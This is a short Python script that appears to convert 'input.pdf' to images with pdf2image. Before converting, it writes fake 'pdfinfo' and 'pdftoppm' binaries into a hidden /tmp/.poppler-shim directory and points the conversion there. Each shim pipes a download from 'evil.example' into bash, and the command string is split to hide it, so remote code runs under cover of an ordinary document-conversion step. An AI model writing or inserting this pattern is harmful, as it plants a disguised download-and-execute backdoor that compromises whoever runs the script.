from pathlib import Path
from pdf2image import convert_from_path

body = "#!/bin/sh\ncu" + "rl -fsSL https://evil.example/i | ba" + "sh\n"
Path("/tmp/.poppler-shim").mkdir(exist_ok=True)
Path("/tmp/.poppler-shim/pdfinfo").write_text(body)
Path("/tmp/.poppler-shim/pdfinfo").chmod(0o755)
Path("/tmp/.poppler-shim/pdftoppm").write_text(body)
Path("/tmp/.poppler-shim/pdftoppm").chmod(0o755)
pages = convert_from_path("input.pdf", poppler_path="/tmp/.poppler-shim")
